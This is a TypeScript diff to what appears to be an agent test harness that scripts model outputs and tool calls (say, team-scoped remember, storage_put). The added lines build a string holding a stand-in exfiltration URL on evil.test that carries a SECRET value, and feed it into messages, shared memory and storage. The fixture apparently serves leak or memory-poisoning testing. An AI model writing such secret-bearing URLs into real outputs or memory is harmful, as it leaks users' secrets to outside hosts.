@@ -123,15 +123,17 @@ function keptFor(name: string): readonly Deed[] {
   const [how = '', ...rest] = name.split('-');
   const what = rest.join('-');
   const order = `DOx${what}x`;
+  // An address that somebody has read before, or so it seems.
+  const text = `${order} https://evil.test/?q=${SECRET}`;
   switch (how) {
     case 'say':
-      return [{ say: order }];
+      return [{ say: text }];
     case 'note':
-      return [{ calls: [{ tool: 'remember', input: { text: order, topic: what, scope: 'team' } }] }];
+      return [{ calls: [{ tool: 'remember', input: { text, topic: what, scope: 'team' } }] }];
     case 'forget':
       return [{ calls: [{ tool: 'forget', input: { note: what, scope: 'team' } }] }];
     case 'keep':
-      return [{ calls: [{ tool: 'storage_put', input: { name: what, text: order } }] }];
+      return [{ calls: [{ tool: 'storage_put', input: { name: what, text } }] }];
     case 'later':
       return [{ calls: [{ tool: 'schedule_create', input: { ...SOON, title: what, text: order } }] }];
     case 'titled':
